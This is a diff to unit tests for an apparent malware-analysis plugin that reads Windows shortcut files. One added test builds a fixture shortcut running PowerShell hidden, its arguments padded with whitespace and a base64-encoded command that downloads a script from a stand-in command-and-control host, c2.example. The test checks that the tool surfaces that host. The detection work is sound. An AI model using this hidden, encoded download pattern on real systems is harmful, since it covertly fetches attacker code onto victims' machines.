@@ -1,5 +1,6 @@
 """Where a shortcut leads, and how it hides that."""
 
+import base64
 import contextlib
 import struct
 from pathlib import Path
@@ -9,11 +10,13 @@ import pytest
 
 from malbox.sdk import PluginFailure, PluginSkipped
 from malbox.sdk.testing import run_plugin
+from services.plugins.builtin.scripts import plugin as scripts
 from services.plugins.builtin.shortcuts import plugin, windows
 from tests.unit.plugins.conftest import MakeSample
 from tests.unit.plugins.mutations import mutations
 
 CMD = "C:\\Windows\\System32\\cmd.exe"
+POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
 NOTEPAD = "C:\\Windows\\notepad.exe"
 MACHINE = "ann-desktop"
 
@@ -122,3 +125,26 @@ def test_a_damaged_shortcut_is_a_failure_or_a_part_never_a_crash(
     for damaged in mutations(content, 300, "shortcut"):
         with contextlib.suppress(PluginFailure, PluginSkipped):
             assert len(read(make_sample(damaged), tmp_path)["arguments"]) <= windows.ARGUMENTS_MAX_CHARS
+
+
+def test_what_an_interpreter_is_told_to_do_comes_out(make_sample: MakeSample, tmp_path: Path) -> None:
+    """As a line that the plugin for scripts unfolds; the blanks that hide it are gone."""
+    packed = base64.b64encode("Invoke-WebRequest http://c2.example/a.ps1".encode("utf-16-le")).decode()
+    sample = make_sample(shortcut(POWERSHELL, " " * 300 + f"-w hidden -enc {packed}"))
+    emitted = run_plugin(plugin.run, sample, scratch=tmp_path)
+    [child] = emitted.json("shortcuts")["children"]
+    line = emitted.content[child["name"]]
+    assert (child["path"], line) == (
+        "command line > command.cmd",
+        f"{POWERSHELL} -w hidden -enc {packed}\r\n".encode(),
+    )
+    unfolded = run_plugin(scripts.run, make_sample(line), scratch=tmp_path, sample_name="command.cmd").json("scripts")
+    assert "c2.example" in {one["value"] for one in unfolded["indicators"]}
+
+
+@pytest.mark.parametrize(
+    "content", [shortcut(CMD, "/c calc"), shortcut(NOTEPAD, "x" * 300)], ids=["short", "an editor"]
+)
+def test_an_ordinary_command_line_is_no_child(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
+    """Control: what is short is shown whole, and what no interpreter reads is no script."""
+    assert read(make_sample(content), tmp_path)["children"] == []
